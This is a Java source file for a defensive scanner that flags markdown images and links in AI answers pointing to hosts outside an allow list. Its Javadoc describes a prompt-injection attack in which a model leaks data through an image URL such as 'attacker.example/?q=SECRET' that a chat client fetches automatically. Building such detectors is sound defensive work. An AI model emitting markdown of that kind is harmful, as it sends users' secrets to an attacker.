package dev.bastion.guard.exfiltration;

import com.google.re2j.Matcher;
import com.google.re2j.Pattern;
import dev.bastion.guard.Finding;
import dev.bastion.guard.Scanner;
import java.net.URI;
import java.net.URISyntaxException;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Set;

/**
 * Finds markdown images and links in answers that point at hosts outside an allow list: a prompt-injected model
 * can leak data by rendering {@code ![](https://attacker.example/?q=SECRET)}, which a chat client fetches without
 * a click. Images to unlisted hosts are {@code MARKDOWN_IMAGE_EXFILTRATION}; links to unlisted hosts that carry a
 * query string or fragment are {@code MARKDOWN_LINK_EXFILTRATION}. Hosts match exactly or as a parent domain
 * ({@code example.com} allows {@code docs.example.com}). Immutable and thread-safe.
 */
public final class ExfiltrationScanner implements Scanner {
    public static final String ID = "exfiltration";
    public static final String IMAGE = "MARKDOWN_IMAGE_EXFILTRATION";
    public static final String LINK = "MARKDOWN_LINK_EXFILTRATION";

    /** {@code ![alt](url ...)} or {@code [text](url ...)}; also reference definitions {@code [id]: url}. */
    private static final Pattern MARKDOWN = Pattern.compile(
            "(!?)\\[[^\\]\\n]{0,500}\\]\\(\\s*<?([^\\s)>]{1,1000})>?[^)\\n]{0,500}\\)|^\\s{0,3}\\[[^\\]\\n]{1,200}\\]:\\s*<?([^\\s>]{1,1000})",
            Pattern.MULTILINE);

    private final Set<String> allowedHosts;

    public ExfiltrationScanner(List<String> allowedHosts) {
        this.allowedHosts = Set.copyOf(allowedHosts.stream().map(h -> h.toLowerCase(Locale.ROOT)).toList());
    }

    @Override
    public String id() {
        return ID;
    }

    @Override
    public java.util.OptionalInt settledBefore(String text) {
        return java.util.OptionalInt.of(MarkdownHorizon.settledBefore(text));
    }

    @Override
    public List<Finding> scan(List<String> segments) {
        List<Finding> findings = new ArrayList<>();
        for (int s = 0; s < segments.size(); s++) {
            Matcher m = MARKDOWN.matcher(segments.get(s));
            while (m.find()) {
                boolean image = "!".equals(m.group(1));
                String url = m.group(2) != null ? m.group(2) : m.group(3);
                if (url == null) {
                    continue;
                }
                Target target = target(url);
                if (target == null || allowed(target.host())) {
                    continue;
                }
                if (image) {
                    findings.add(new Finding(IMAGE, s, m.start(), m.end(), 0.95, ID));
                } else if (target.carriesData()) {
                    findings.add(new Finding(LINK, s, m.start(), m.end(), 0.8, ID));
                }
            }
        }
        return findings;
    }

    private record Target(String host, boolean carriesData) {
    }

    /** The host of an absolute http(s) or protocol-relative URL, or null for anything else (relative links). */
    private static Target target(String url) {
        String u = url.startsWith("//") ? "https:" + url : url;
        try {
            URI uri = new URI(u);
            String scheme = uri.getScheme() == null ? "" : uri.getScheme().toLowerCase(Locale.ROOT);
            if (!scheme.equals("http") && !scheme.equals("https")) {
                return null;
            }
            String host = uri.getHost();
            if (host == null) {
                return null;
            }
            return new Target(host.toLowerCase(Locale.ROOT), uri.getRawQuery() != null || uri.getRawFragment() != null);
        } catch (URISyntaxException e) {
            // not a URL a client would fetch as written; treat as unknown host with data, to be safe
            return new Target("", true);
        }
    }

    private boolean allowed(String host) {
        for (String a : allowedHosts) {
            if (host.equals(a) || host.endsWith("." + a)) {
                return true;
            }
        }
        return false;
    }
}
